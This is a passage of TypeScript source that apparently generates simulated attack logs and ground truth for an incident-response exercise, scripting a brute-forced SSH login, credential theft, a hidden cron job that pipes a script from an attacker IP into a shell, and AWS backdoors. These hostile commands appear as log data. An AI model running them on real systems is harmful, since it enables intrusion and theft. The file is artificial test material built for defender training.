/**
 * The breach, step by step: the attacker's every record across the five sources. Times are fixed
 * (the story's clock); pids, ports, ids and sub-second timing come from the attack's own seeded
 * stream, so the attack is the same at every --scale. The Story collects what expected.json says.
 */
import { assumedRole, awsDate, ctRecord, iamUser, type RoleSession, s3DataEvent, sessionArn, sessionToken, UA } from './cloudtrail.js';
import type { Emitter } from './emit.js';
import {
  ACCOUNT, ATTACKER, BUCKETS, DB, DEPLOY_KEY, GLOBAL_REGION, HOSTS, IAM, INCIDENT, REGION, SECRETS, TRAIL_NAME, UIDS,
} from './estate.js';
import { bin, cronSession, type Ctx, ephemeralPort, passwd, sshFailed, sshKeyRejected, sshLogin, sshNoIdent, sudo, useradd } from './hostlog.js';
import type { Item, Phase, Tag } from './model.js';
import { backupDumpSize, backupKey } from './objects.js';
import { pgConnect, type PgCtx, pgDisconnect, pgError, pgStatement } from './pglog.js';
import { Rng } from './rng.js';
import { key, Story } from './story.js';
import { HOUR, SEC, utc } from './time.js';

const T = (phase: Phase, technique: string, summary?: string): Tag => ({ phase, technique, summary });

/** What the attacker created or stole, for the background (responders) and the ground truth. */
export interface AttackFacts {
  createdKey: string;
  consoleKey: string;
  sessionKeys: string[];
  authorizedKey: string;
  dbsyncPassword: string;
}

export function runAttack(E: Emitter, seed: number): { story: Story; facts: AttackFacts } {
  const rng = new Rng(seed, 'attack');
  const S = new Story(E);
  const A = ATTACKER.sshIp;
  const bastion = HOSTS['bastion-01'];
  const web = HOSTS['web-01'];
  const db = HOSTS['db-01'];
  const ctx = (tag: Tag): Ctx => ({ E, rng, tag });
  const at = (mo: number, d: number, h: number, mi: number, s: number) => utc(mo === 12 ? 2025 : 2026, mo, d, h, mi, s);

  // ---- entities ------------------------------------------------------------------------------
  const eA = S.entity('ip', A, null, ['scanner', 'login_source', 'backdoor_user'], 'the alert: scanned and brute-forced bastion-01, logged in as deploy and sysupdate, serves the cron payload');
  const eCloud = S.entity('ip', ATTACKER.cloudIp, null, ['api_caller', 'backdoor_user'], 'used the stolen access key, the role sessions and the backdoor IAM user (console) after containment');
  const eEx1 = S.entity('ip', ATTACKER.exfilIp, null, ['exfil_destination'], 'received the customer and order exports from web-01 over HTTPS');
  const eEx2 = S.entity('ip', ATTACKER.exfilIp2, null, ['exfil_destination'], 'received the payment-method export straight from db-01 (COPY … TO PROGRAM)');
  const eDeployB = S.entity('local_user', 'deploy', 'bastion-01', ['compromised'], 'password brute-forced from 203.0.113.77');
  const eDeployW = S.entity('local_user', 'deploy', 'web-01', ['compromised'], 'reached from bastion-01 with deploy\'s key; sudo with the same password');
  const eSysupdate = S.entity('local_user', 'sysupdate', 'bastion-01', ['backdoor'], 'created by the attacker with sudo group membership');
  const eOpsUser = S.entity('iam_principal', `arn:aws:iam::${ACCOUNT}:user/${IAM.opsUser}`, null, ['compromised'], 'its access key was read from /root/.aws/credentials on bastion-01');
  const eOpsRole = S.entity('iam_principal', `arn:aws:iam::${ACCOUNT}:role/${IAM.opsRole}`, null, ['assumed'], 'assumed with the stolen key (profile in /root/.aws/config)');
  const eSupport = S.entity('iam_principal', `arn:aws:iam::${ACCOUNT}:user/support-audit`, null, ['backdoor'], 'created by the attacker: AdministratorAccess, console password, access key');
  const eKey1 = S.entity('access_key', IAM.opsKey, null, ['stolen'], 'svc-bastion-ops\'s key, stolen from bastion-01, used from 198.51.100.23');
  const eShopApp = S.entity('db_role', DB.appRole, 'db-01', ['borrowed'], 'the application\'s role (a superuser); its password was read from /etc/shop/app.env on web-01');
  const eDbsync = S.entity('db_role', 'dbsync', 'db-01', ['backdoor'], 'created by the attacker: LOGIN SUPERUSER');
  const eHostB = S.entity('host', 'bastion-01', null, ['compromised'], 'initial access');
  const eHostW = S.entity('host', 'web-01', null, ['compromised'], 'lateral movement from bastion-01; staging and exfiltration');
  const eHostD = S.entity('host', 'db-01', null, ['compromised'], 'database read with borrowed credentials; COPY TO PROGRAM ran as postgres');

  // ---- recon: port scan of the bastion (30 Dec) ------------------------------------------------
  const scanPorts: number[] = [];
  for (let p = 1; p <= 1024; p++) scanPorts.push(p);
  scanPorts.push(1433, 1521, 2049, 2375, 3000, 3306, 3389, 5000, 5432, 5900, 6379, 8000, 8080, 8443, 8888, 9000, 9090, 9200, 11211, 27017);
  for (let i = scanPorts.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [scanPorts[i], scanPorts[j]] = [scanPorts[j]!, scanPorts[i]!];
  }
  const scanStart = at(12, 30, 14, 2, 13);
  const scanSport = rng.int(40000, 65000);
  S.within([eA, eHostB], () => {
    let t = scanStart;
    scanPorts.forEach((port, i) => {
      const open = port === 22;
      const { vpc } = E.conn(
        open
          ? { start: t, dur: 2_000 + rng.int(0, 40_000), src: A, sport: scanSport, dst: bastion.privateIp, dport: port, proto: 'tcp', origPkts: 2, origIpBytes: 84, respPkts: 1, respIpBytes: 44, service: null, history: 'ShR', state: 'RSTO' }
          : { start: t, dur: 1_000_000 + rng.int(0, 300_000), src: A, sport: scanSport, dst: bastion.privateIp, dport: port, proto: 'tcp', origPkts: 2, origIpBytes: 88, respPkts: 0, respIpBytes: 0, action: 'REJECT' },
        rng, T('recon', 'T1595.001'),
      );
      if (i === 0) S.name('first_recon', vpc[0]!, 'port scan of bastion-01 (1,044 TCP ports) from 203.0.113.77 begins');
      if (i === scanPorts.length - 1) key(vpc[0]!, 'port scan of bastion-01 ends');
      t += rng.int(150_000, 320_000);
    });
    const probe = sshNoIdent(ctx(T('recon', 'T1595.002')), 'bastion-01', A, at(12, 30, 14, 6, 41));
    key(probe, 'service probe of sshd on bastion-01 (no identification string)');
  });

  // ---- recon: user enumeration over SSH (30 Dec) -----------------------------------------------
  const enumUsers: [string, boolean][] = [
    ['admin', true], ['ubuntu', false], ['test', true], ['oracle', true], ['git', true], ['jenkins', true],
    ['ansible', true], ['deploy', false], ['ec2-user', true], ['postgres', true], ['devops', true], ['backup', false],
  ];
  S.within([eA, eHostB], () => {
    let t = at(12, 30, 14, 21, 5);
    enumUsers.forEach(([user, invalid], i) => {
      const r = sshFailed(ctx(T('recon', 'T1589.001')), { host: 'bastion-01', user, invalid, src: A, start: t, attempts: 1, leave: 'bye' });
      if (i === 0) key(r.first, 'SSH user enumeration against bastion-01 begins');
      if (user === 'deploy') key(r.lines.find((l) => l.msg.startsWith('Failed password'))!, 'enumeration hits the existing account deploy');
      t += rng.int(40, 70) * SEC + rng.int(0, 999_999);
    });
  });

  // ---- access: SSH brute force of deploy (31 Dec) ----------------------------------------------
  S.within([eA, eHostB, eDeployB], () => {
    let t = at(12, 31, 1, 40, 12);
    const end = at(12, 31, 2, 14, 0);
    let first = true;
    let last: Item | null = null;
    while (t < end - 45 * SEC) {
      const attempts = rng.pick([3, 4, 5, 6, 6, 6]);
      const r = sshFailed(ctx(T('access', 'T1110.001')), { host: 'bastion-01', user: 'deploy', invalid: false, src: A, start: t, attempts, leave: 'close' });
      if (first) key(r.first, 'SSH password brute force of deploy@bastion-01 begins');
      first = false;
      last = r.last;
      t = r.end + rng.int(800_000, 4_000_000);
    }
    if (last) key(last, 'last failed brute-force connection');
    // Hydra's winning connection: one more failure, then the password; it disconnects at once.
    const win = sshLogin(ctx(T('access', 'T1078.003')), {
      host: 'bastion-01', user: 'deploy', uid: UIDS.deploy!, method: 'password', src: A, start: at(12, 31, 2, 14, 1), end: at(12, 31, 2, 14, 9), typos: 1, dstIp: bastion.privateIp,
    });
    S.name('initial_access', win.accepted, 'brute force succeeds: Accepted password for deploy from 203.0.113.77');
  });

  // ---- actions on bastion-01: secrets, persistence (31 Dec) -----------------------------------
  const authorizedKey = `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${rng.alnum(43)} kali@kali`;
  const cronLine = `17 * * * * root curl -fsS http://${A}/k | sh`;
  S.within([eA, eHostB, eDeployB], () => {
    const s = sshLogin(ctx(T('access', 'T1078.003')), {
      host: 'bastion-01', user: 'deploy', uid: UIDS.deploy!, method: 'password', src: A, start: at(12, 31, 2, 15, 2), end: at(12, 31, 2, 41, 30), extraDown: 48_000, dstIp: bastion.privateIp,
    });
    key(s.accepted, 'interactive login as deploy from 203.0.113.77');
    const su = (t: number, tag: Tag, command: string, duration = 0) => sudo(ctx(tag), t, { host: 'bastion-01', user: 'deploy', uid: UIDS.deploy!, tty: 'pts/1', pwd: '/home/deploy', command, duration });
    key(su(at(12, 31, 2, 16, 12), T('actions', 'T1548.003'), 'list'), 'sudo -l: deploy may run anything as root');
    const shadow = su(at(12, 31, 2, 16, 40), T('actions', 'T1003.008'), `${bin('bastion-01', 'cat')} /etc/shadow`);
    key(shadow, 'sudo cat /etc/shadow');
    const creds = su(at(12, 31, 2, 17, 40), T('actions', 'T1552.001'), `${bin('bastion-01', 'cat')} /root/.aws/credentials`);
    key(creds, 'sudo cat /root/.aws/credentials (svc-bastion-ops access key)');
    const conf = su(at(12, 31, 2, 17, 58), T('actions', 'T1552.001'), `${bin('bastion-01', 'cat')} /root/.aws/config`);
    key(conf, 'sudo cat /root/.aws/config (role ops-automation profile)');
    const idrsa = su(at(12, 31, 2, 18, 51), T('actions', 'T1552.004'), `${bin('bastion-01', 'cat')} /root/.ssh/id_rsa`);
    key(idrsa, 'sudo cat /root/.ssh/id_rsa');
    su(at(12, 31, 2, 19, 30), T('recon', 'T1083'), `${bin('bastion-01', 'ls')} -la /root /home`);
    const ua = su(at(12, 31, 2, 22, 10), T('actions', 'T1136.001'), `${bin('bastion-01', 'useradd')} -m -s /bin/bash -G sudo sysupdate`, 1);
    key(ua, 'sudo useradd -m -s /bin/bash -G sudo sysupdate');
    const created = S.within([eSysupdate], () => useradd(ctx(T('actions', 'T1136.001')), 'bastion-01', at(12, 31, 2, 22, 10) + 150_000, 'sysupdate', UIDS.sysupdate!, '/bin/bash', ['sudo']));
    key(created[1]!, 'local user sysupdate created (uid 1007), added to sudo');
    su(at(12, 31, 2, 22, 31), T('actions', 'T1098'), `${bin('bastion-01', 'passwd')} sysupdate`, 9);
    const pw = S.within([eSysupdate], () => passwd(ctx(T('actions', 'T1098')), 'bastion-01', at(12, 31, 2, 22, 39), 'sysupdate'));
    key(pw, 'password set for sysupdate');
    const ak = su(at(12, 31, 2, 24, 2), T('actions', 'T1098.004'), `/bin/sh -c echo '${authorizedKey}' >> /root/.ssh/authorized_keys`);
    key(ak, 'attacker key appended to /root/.ssh/authorized_keys');
    const cron = su(at(12, 31, 2, 26, 40), T('actions', 'T1053.003'), `/bin/sh -c echo '${cronLine}' > /etc/cron.d/sysupdate`);
    key(cron, 'cron job /etc/cron.d/sysupdate fetches and runs a script from 203.0.113.77 hourly');
    S.backdoors.push({ kind: 'local_user', value: 'sysupdate', host: 'bastion-01', createdBy: 'deploy', created: created[1]!, afterContainment: [], removedBy: 'userdel by alice, 2026-01-02' });
    S.backdoors.push({ kind: 'ssh_authorized_key', value: authorizedKey, host: 'bastion-01', createdBy: 'deploy', created: ak, afterContainment: [], removedBy: 'removed by alice, 2026-01-02' });
    S.backdoors.push({ kind: 'cron', value: '/etc/cron.d/sysupdate', host: 'bastion-01', createdBy: 'deploy', created: cron, afterContainment: [], removedBy: 'removed by alice, 2026-01-02' });
    S.data.push({ kind: 'file', value: '/etc/shadow', host: 'bastion-01', access: 'read', rows: null, bytes: null, items: [shadow] });
    S.data.push({ kind: 'file', value: '/root/.aws/credentials', host: 'bastion-01', access: 'read', rows: null, bytes: null, items: [creds] });
    S.data.push({ kind: 'file', value: '/root/.aws/config', host: 'bastion-01', access: 'read', rows: null, bytes: null, items: [conf] });
    S.data.push({ kind: 'file', value: '/root/.ssh/id_rsa', host: 'bastion-01', access: 'read', rows: null, bytes: null, items: [idrsa] });
    S.credentials.push({ kind: 'local_password', value: 'deploy', host: 'bastion-01', reason: 'brute-forced from 203.0.113.77', items: [S.named.get('initial_access')!] });
    S.credentials.push({ kind: 'local_password', value: '/etc/shadow', host: 'bastion-01', reason: 'every password hash on bastion-01 was read', items: [shadow] });
    S.credentials.push({ kind: 'ssh_key', value: '/root/.ssh/id_rsa', host: 'bastion-01', reason: 'root\'s private key was read', items: [idrsa] });
    S.credentials.push({ kind: 'access_key', value: IAM.opsKey, host: null, reason: 'read from /root/.aws/credentials on bastion-01 and used from 198.51.100.23', items: [creds] });
  });

  // Cron beacons: hourly at :17 local until the responders remove the file.
  S.within([eA, eHostB], () => {
    let first: Item | null = null;
    let lastB: Item | null = null;
    for (let t = at(12, 31, 3, 17, 1); t < at(1, 2, 10, 44, 0); t += HOUR) {
      const start = t + rng.int(0, 900_000);
      const c = ctx(T('actions', 'T1071.001'));
      cronSession(c, 'bastion-01', start, 'root', 0, 1);
      const { zeek } = E.conn(
        { start: start + rng.int(40_000, 200_000), dur: rng.int(90_000, 400_000), src: bastion.privateIp, sport: ephemeralPort(rng), dst: A, dport: 80, proto: 'tcp', origPkts: 6, origIpBytes: 6 * 52 + 148, respPkts: 5, respIpBytes: 5 * 52 + 412, service: 'http', history: 'ShADadfF', state: 'SF' },
        rng, T('actions', 'T1071.001'),
      );
      if (!first) first = zeek;
      lastB = zeek;
    }
    key(first!, 'first cron beacon: bastion-01 fetches http://203.0.113.77/k');
    key(lastB!, 'last cron beacon before the cron file was removed');
  });

  // ---- the stolen key in the cloud (31 Dec evening) --------------------------------------------
  const CIP = ATTACKER.cloudIp;
  const ops = iamUser(IAM.opsUser, IAM.opsUserId, IAM.opsKey);
  const api = (t: number, identity: Record<string, unknown>, source: string, name: string, cmd: string, o: Partial<Parameters<typeof ctRecord>[1]> = {}, tag: Tag = T('recon', 'T1526')) => {
    const region = o.region ?? (source === 'iam.amazonaws.com' ? GLOBAL_REGION : REGION);
    const host = source === 'iam.amazonaws.com' ? 'iam.amazonaws.com' : source === 's3.amazonaws.com' ? `s3.${REGION}.amazonaws.com` : `${source.split('.')[0]}.${REGION}.amazonaws.com`;
    return E.ct(t, region, ctRecord(rng, { t, identity, source, name, ip: CIP, ua: UA.attackerCli(cmd), readOnly: true, host, ...o, region }), tag);
  };
  const denied = (arn: string, action: string, resource: string) => ({ code: 'AccessDenied', message: `User: ${arn} is not authorized to perform: ${action} on resource: ${resource} because no identity-based policy allows the ${action} action` });
  const opsArn = `arn:aws:iam::${ACCOUNT}:user/${IAM.opsUser}`;
  const sessions: RoleSession[] = [];
  const assume = (t: number): RoleSession => {
    const session = `botocore-session-${Math.floor(t / SEC)}`;
    const rs: RoleSession = { role: IAM.opsRole, roleId: IAM.opsRoleId, session, accessKeyId: rng.accessKeyId('ASIA'), creationDate: new Date(t / 1000).toISOString().replace(/\.\d+Z$/, 'Z') };
    const item = api(t, ops, 'sts.amazonaws.com', 'AssumeRole', 'sts.assume-role', {
      readOnly: true,
      req: { roleArn: `arn:aws:iam::${ACCOUNT}:role/${IAM.opsRole}`, roleSessionName: session },
      resp: {
        credentials: { accessKeyId: rs.accessKeyId, sessionToken: sessionToken(rng), expiration: awsDate(t + HOUR) },
        assumedRoleUser: { assumedRoleId: `${IAM.opsRoleId}:${session}`, arn: sessionArn(rs) },
      },
      resources: [{ accountId: ACCOUNT, type: 'AWS::IAM::Role', ARN: `arn:aws:iam::${ACCOUNT}:role/${IAM.opsRole}` }],
    }, T('actions', 'T1548.005'));
    key(item, `AssumeRole ${IAM.opsRole} with the stolen key: issues ${rs.accessKeyId}`);
    sessions.push(rs);
    S.named.set(`assume:${rs.accessKeyId}`, item);
    return rs;
  };
  S.within([eCloud, eKey1, eOpsUser], () => {
    const gci = api(at(12, 31, 19, 12, 44), ops, 'sts.amazonaws.com', 'GetCallerIdentity', 'sts.get-caller-identity', {}, T('access', 'T1078.004'));
    S.name('key_first_use', gci, 'stolen key first used from 198.51.100.23: GetCallerIdentity');
    key(api(at(12, 31, 19, 13, 2), ops, 's3.amazonaws.com', 'ListBuckets', 's3.ls', { req: { Host: `s3.${REGION}.amazonaws.com` }, error: { code: 'AccessDenied', message: 'Access Denied' } }, T('recon', 'T1619')), 'ListBuckets denied');
    key(api(at(12, 31, 19, 13, 20), ops, 'iam.amazonaws.com', 'ListUsers', 'iam.list-users', { error: denied(opsArn, 'iam:ListUsers', `arn:aws:iam::${ACCOUNT}:user/`) }, T('recon', 'T1087.004')), 'ListUsers denied');
    key(api(at(12, 31, 19, 13, 41), ops, 'iam.amazonaws.com', 'ListAttachedUserPolicies', 'iam.list-attached-user-policies', { req: { userName: IAM.opsUser }, error: denied(opsArn, 'iam:ListAttachedUserPolicies', opsArn) }, T('recon', 'T1069.003')), 'ListAttachedUserPolicies denied');
  });
  const rs1 = S.within([eCloud, eKey1, eOpsUser, eOpsRole], () => assume(at(12, 31, 19, 14, 30)));
  const eRs1 = S.entity('session', sessionArn(rs1), null, ['assumed'], 'role session of the stolen key (discovery, secrets)');
  const eAsia1 = S.entity('access_key', rs1.accessKeyId, null, ['issued_by_assume_role'], `temporary key issued to ${IAM.opsKey} by AssumeRole`);
  S.group(eRs1).push(S.named.get(`assume:${rs1.accessKeyId}`)!);
  S.group(eAsia1).push(S.named.get(`assume:${rs1.accessKeyId}`)!);
  S.within([eCloud, eOpsRole, eRs1, eAsia1], () => {
    const id = assumedRole(rs1);
    const b = (bucket: string) => ({ bucketName: bucket, Host: `${bucket}.s3.${REGION}.amazonaws.com`, acl: '' });
    key(api(at(12, 31, 19, 14, 52), id, 'sts.amazonaws.com', 'GetCallerIdentity', 'sts.get-caller-identity'), 'GetCallerIdentity as ops-automation');
    key(api(at(12, 31, 19, 15, 10), id, 's3.amazonaws.com', 'ListBuckets', 's3.ls', { req: { Host: `s3.${REGION}.amazonaws.com` } }, T('recon', 'T1619')), 'ListBuckets');
    for (const [s, bucket] of [[33, BUCKETS.exports], [41, BUCKETS.backups], [49, BUCKETS.assets]] as const) {
      key(api(at(12, 31, 19, 15, s), id, 's3.amazonaws.com', 'GetBucketAcl', 's3api.get-bucket-acl', { req: b(bucket), resources: [{ accountId: ACCOUNT, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` }] }, T('recon', 'T1619')), `GetBucketAcl ${bucket}`);
    }
    key(api(at(12, 31, 19, 16, 20), id, 's3.amazonaws.com', 'GetBucketPolicy', 's3api.get-bucket-policy', { req: { bucketName: BUCKETS.exports, Host: `${BUCKETS.exports}.s3.${REGION}.amazonaws.com`, policy: '' }, error: { code: 'NoSuchBucketPolicy', message: 'The bucket policy does not exist' }, resources: [{ accountId: ACCOUNT, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${BUCKETS.exports}` }] }, T('recon', 'T1619')), 'GetBucketPolicy acme-customer-exports');
    key(api(at(12, 31, 19, 17, 5), id, 'iam.amazonaws.com', 'ListUsers', 'iam.list-users', {}, T('recon', 'T1087.004')), 'ListUsers');
    key(api(at(12, 31, 19, 17, 30), id, 'iam.amazonaws.com', 'ListRoles', 'iam.list-roles', {}, T('recon', 'T1069.003')), 'ListRoles');
    key(api(at(12, 31, 19, 17, 52), id, 'iam.amazonaws.com', 'ListAttachedRolePolicies', 'iam.list-attached-role-policies', { req: { roleName: IAM.opsRole } }, T('recon', 'T1069.003')), 'ListAttachedRolePolicies ops-automation');
    key(api(at(12, 31, 19, 18, 40), id, 'ec2.amazonaws.com', 'DescribeInstances', 'ec2.describe-instances', { req: { instancesSet: {}, filterSet: {} } }, T('recon', 'T1580')), 'DescribeInstances');
    key(api(at(12, 31, 19, 19, 2), id, 'ec2.amazonaws.com', 'DescribeSecurityGroups', 'ec2.describe-security-groups', { req: { securityGroupSet: {}, securityGroupIdSet: {}, filterSet: {} } }, T('recon', 'T1580')), 'DescribeSecurityGroups');
    key(api(at(12, 31, 19, 19, 40), id, 'secretsmanager.amazonaws.com', 'ListSecrets', 'secretsmanager.list-secrets', {}, T('recon', 'T1526')), 'ListSecrets');
    const sec = api(at(12, 31, 19, 20, 15), id, 'secretsmanager.amazonaws.com', 'GetSecretValue', 'secretsmanager.get-secret-value', { req: { secretId: SECRETS.stripe } }, T('actions', 'T1555.006'));
    key(sec, `GetSecretValue ${SECRETS.stripe}`);
    S.data.push({ kind: 'secret', value: SECRETS.stripe, host: null, access: 'read', rows: null, bytes: null, items: [sec] });
    S.credentials.push({ kind: 'secret', value: SECRETS.stripe, host: null, reason: 'read with GetSecretValue by the attacker\'s role session', items: [sec] });
    key(api(at(12, 31, 19, 20, 31), id, 'secretsmanager.amazonaws.com', 'GetSecretValue', 'secretsmanager.get-secret-value', { req: { secretId: SECRETS.db }, error: denied(sessionArn(rs1), 'secretsmanager:GetSecretValue', SECRETS.db) }, T('actions', 'T1555.006')), `GetSecretValue ${SECRETS.db} denied`);
    key(api(at(12, 31, 19, 22, 4), id, 'cloudtrail.amazonaws.com', 'DescribeTrails', 'cloudtrail.describe-trails', { req: { trailNameList: [], includeShadowTrails: true } }, T('recon', 'T1526')), 'DescribeTrails');
    key(api(at(12, 31, 19, 22, 20), id, 'cloudtrail.amazonaws.com', 'GetTrailStatus', 'cloudtrail.get-trail-status', { req: { name: TRAIL_NAME } }, T('recon', 'T1526')), 'GetTrailStatus');
  });

  // ---- cloud persistence and defense evasion (1 Jan) -------------------------------------------
  const rs2 = S.within([eCloud, eKey1, eOpsUser, eOpsRole], () => assume(at(1, 1, 0, 31, 10)));
  const eRs2 = S.entity('session', sessionArn(rs2), null, ['assumed'], 'role session of the stolen key (created the backdoor IAM user)');
  const eAsia2 = S.entity('access_key', rs2.accessKeyId, null, ['issued_by_assume_role'], `temporary key issued to ${IAM.opsKey} by AssumeRole`);
  S.group(eRs2).push(S.named.get(`assume:${rs2.accessKeyId}`)!);
  S.group(eAsia2).push(S.named.get(`assume:${rs2.accessKeyId}`)!);
  const supportId = 'AIDA' + rng.base32(17);
  const createdKey = rng.accessKeyId('AKIA');
  const eKey2 = S.entity('access_key', createdKey, null, ['backdoor'], 'created for support-audit by the attacker\'s role session');
  S.within([eCloud, eOpsRole, eRs2, eAsia2, eSupport], () => {
    const id = assumedRole(rs2);
    const userArn = `arn:aws:iam::${ACCOUNT}:user/support-audit`;
    const cu = api(at(1, 1, 0, 33, 2), id, 'iam.amazonaws.com', 'CreateUser', 'iam.create-user', {
      readOnly: false, req: { userName: 'support-audit' },
      resp: { user: { path: '/', userName: 'support-audit', userId: supportId, arn: userArn, createDate: awsDate(at(1, 1, 0, 33, 2)) } },
    }, T('actions', 'T1136.003'));
    key(cu, 'CreateUser support-audit');
    const ap = api(at(1, 1, 0, 33, 40), id, 'iam.amazonaws.com', 'AttachUserPolicy', 'iam.attach-user-policy', {
      readOnly: false, req: { userName: 'support-audit', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
    }, T('actions', 'T1098.003'));
    key(ap, 'AttachUserPolicy AdministratorAccess to support-audit');
    const lp = api(at(1, 1, 0, 34, 15), id, 'iam.amazonaws.com', 'CreateLoginProfile', 'iam.create-login-profile', {
      readOnly: false, req: { userName: 'support-audit', passwordResetRequired: false },
      resp: { loginProfile: { userName: 'support-audit', createDate: awsDate(at(1, 1, 0, 34, 15)), passwordResetRequired: false } },
    }, T('actions', 'T1098'));
    key(lp, 'CreateLoginProfile support-audit (console password)');
    const ck = S.within([eKey2], () => api(at(1, 1, 0, 34, 52), id, 'iam.amazonaws.com', 'CreateAccessKey', 'iam.create-access-key', {
      readOnly: false, req: { userName: 'support-audit' },
      resp: { accessKey: { userName: 'support-audit', accessKeyId: createdKey, status: 'Active', createDate: awsDate(at(1, 1, 0, 34, 52)) } },
    }, T('actions', 'T1098.001')));
    key(ck, `CreateAccessKey for support-audit: ${createdKey}`);
    S.backdoors.push({ kind: 'iam_user', value: userArn, host: null, createdBy: sessionArn(rs2), created: cu, afterContainment: [] });
    S.backdoors.push({ kind: 'iam_login_profile', value: 'support-audit', host: null, createdBy: sessionArn(rs2), created: lp, afterContainment: [] });
    S.backdoors.push({ kind: 'iam_access_key', value: createdKey, host: null, createdBy: sessionArn(rs2), created: ck, afterContainment: [], removedBy: 'deactivated by alice, 2026-01-02' });
    S.credentials.push({ kind: 'access_key', value: createdKey, host: null, reason: 'created by the attacker for support-audit (delete the user)', items: [ck] });
    S.credentials.push({ kind: 'iam_user_password', value: 'support-audit', host: null, reason: 'console password set by the attacker; used after containment', items: [lp] });
  });
  const support = iamUser('support-audit', supportId, createdKey);
  S.within([eCloud, eSupport, eKey2], () => {
    key(api(at(1, 1, 0, 36, 20), support, 'sts.amazonaws.com', 'GetCallerIdentity', 'sts.get-caller-identity'), 'GetCallerIdentity as support-audit');
    const stop = api(INCIDENT.trailStopped, support, 'cloudtrail.amazonaws.com', 'StopLogging', 'cloudtrail.stop-logging', {
      readOnly: false, req: { name: TRAIL_NAME }, resources: [{ accountId: ACCOUNT, type: 'AWS::CloudTrail::Trail', ARN: `arn:aws:cloudtrail:${REGION}:${ACCOUNT}:trail/${TRAIL_NAME}` }],
    }, T('actions', 'T1562.008'));
    key(stop, 'StopLogging acme-security-trail');
    const start = api(INCIDENT.trailStarted, support, 'cloudtrail.amazonaws.com', 'StartLogging', 'cloudtrail.start-logging', {
      readOnly: false, req: { name: TRAIL_NAME }, resources: [{ accountId: ACCOUNT, type: 'AWS::CloudTrail::Trail', ARN: `arn:aws:cloudtrail:${REGION}:${ACCOUNT}:trail/${TRAIL_NAME}` }],
    }, T('actions', 'T1562.008'));
    key(start, 'StartLogging acme-security-trail');
    S.gaps.push({ source: 'cloudtrail', from: stop, to: start, reason: `StopLogging by arn:aws:iam::${ACCOUNT}:user/support-audit; no CloudTrail record until StartLogging` });
    // S3 reads with the new key.
    // `aws s3 cp` downloads objects over 8 MiB as parallel ranged GETs: one data event per part.
    const get = (t: number, bucket: string, k: string, bytes: number, what: string) => {
      const part = 8 * 1024 * 1024;
      const items: Item[] = [];
      const parts = Math.ceil(bytes / part);
      for (let i = 0; i < parts; i++) {
        const from = i * part;
        const to = Math.min(bytes, from + part) - 1;
        const pt = t + Math.floor(i / 10) * SEC * rng.int(1, 2);
        items.push(E.ct(pt, REGION, s3DataEvent(rng, {
          t: pt, identity: support, ip: CIP, ua: UA.attackerCli('s3.cp'), name: 'GetObject', bucket, key: k, bytesOut: to - from + 1,
          req: parts > 1 ? { Range: `bytes=${from}-${to}` } : undefined,
        }), T('exfiltration', 'T1530')));
      }
      key(items[0]!, `GetObject s3://${bucket}/${k} (${what}${parts > 1 ? `, ${parts} ranged parts` : ''})`);
      if (parts > 1) key(items[items.length - 1]!, `last part of s3://${bucket}/${k}`);
      S.data.push({ kind: 's3_object', value: `s3://${bucket}/${k}`, host: null, access: 'read', rows: null, bytes, items });
      return items;
    };
    const list = (t: number, bucket: string, prefix: string) =>
      key(E.ct(t, REGION, s3DataEvent(rng, { t, identity: support, ip: CIP, ua: UA.attackerCli('s3.ls'), name: 'ListObjects', bucket, prefix }), T('recon', 'T1619')), `ListObjects s3://${bucket}/${prefix}`);
    list(at(1, 1, 1, 53, 2), BUCKETS.exports, 'exports/2025/12/');
    get(at(1, 1, 1, 54, 15), BUCKETS.exports, 'exports/2025/12/customers-full-2025-12-28.csv.gz', 18_874_312, 'customer export');
    get(at(1, 1, 1, 55, 40), BUCKETS.exports, 'exports/2025/12/orders-2025-12.csv.gz', 42_117_904, 'order export');
    list(at(1, 1, 1, 57, 12), BUCKETS.backups, 'postgres/shop/');
    get(at(1, 1, 1, 58, 5), BUCKETS.backups, backupKey(utc(2025, 12, 31)), backupDumpSize(utc(2025, 12, 31)), 'the nightly database dump');
  });

  // ---- lateral movement and the database (1 Jan) -----------------------------------------------
  const dbsyncPassword = `Sync!${rng.alnum(10)}`;
  S.within([eA, eHostB, eDeployB], () => {
    const s2 = sshLogin(ctx(T('access', 'T1078.003')), {
      host: 'bastion-01', user: 'deploy', uid: UIDS.deploy!, method: 'password', src: A, start: at(1, 1, 2, 20, 5), end: at(1, 1, 3, 2, 40), extraDown: 9_000, dstIp: bastion.privateIp,
    });
    key(s2.accepted, 'login as deploy from 203.0.113.77 (second session)');
  });
  S.within([eHostW, eDeployW], () => {
    const w = sshLogin(ctx(T('actions', 'T1021.004')), {
      host: 'web-01', user: 'deploy', uid: UIDS.deploy!, method: 'publickey', key: DEPLOY_KEY, src: HOSTS['bastion-01'].privateIp, start: at(1, 1, 2, 21, 30), end: at(1, 1, 3, 1, 12),
    });
    S.name('lateral_web', w.accepted, 'lateral movement: deploy@bastion-01 → web-01 with deploy\'s key');
    S.credentials.push({ kind: 'ssh_key', value: DEPLOY_KEY.split(' ')[1]!, host: 'bastion-01', reason: 'deploy\'s private key on bastion-01 was used to reach web-01', items: [w.accepted] });
    const env = sudo(ctx(T('actions', 'T1552.001')), at(1, 1, 2, 22, 10), { host: 'web-01', user: 'deploy', uid: UIDS.deploy!, tty: 'pts/0', pwd: '/home/deploy', command: `${bin('web-01', 'cat')} /etc/shop/app.env` });
    key(env, 'sudo cat /etc/shop/app.env on web-01 (the application\'s database password)');
    S.data.push({ kind: 'file', value: '/etc/shop/app.env', host: 'web-01', access: 'read', rows: null, bytes: null, items: [env] });
    S.credentials.push({ kind: 'local_password', value: 'deploy', host: 'web-01', reason: 'same password as on bastion-01; used for sudo', items: [env] });
    S.credentials.push({ kind: 'db_password', value: DB.appRole, host: 'db-01', reason: 'read from /etc/shop/app.env and used from web-01', items: [env] });
  });

  // Internal sweep from web-01 (the runbook's "map out the network").
  S.within([eHostW], () => {
    const m = { src: web.privateIp, items: [] as import('./model.js').VpcItem[], targets: new Set<string>(), ports: new Set<number>() };
    let t = at(1, 1, 2, 22, 40);
    for (let i = 1; i <= 30; i++) {
      const target = `10.0.2.${i}`;
      for (const port of [22, 5432]) {
        const live = target === db.privateIp;
        const { vpc } = E.conn(
          live
